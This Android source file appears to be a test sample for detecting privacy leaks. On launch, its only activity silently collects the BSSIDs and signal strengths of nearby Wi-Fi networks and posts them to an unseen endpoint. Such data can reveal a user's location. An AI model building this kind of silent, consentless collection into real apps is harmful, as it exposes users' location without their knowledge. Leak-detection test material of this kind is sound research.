package com.example.flows.wifi_scan;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Networks around the phone are posted. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder();
        for (android.net.wifi.ScanResult each : ((android.net.wifi.WifiManager) getSystemService(WIFI_SERVICE)).getScanResults()) {
            text.append(String.format("%s=%d;", each.BSSID, each.level));
        }
        Net.post(text.toString());
    }
}
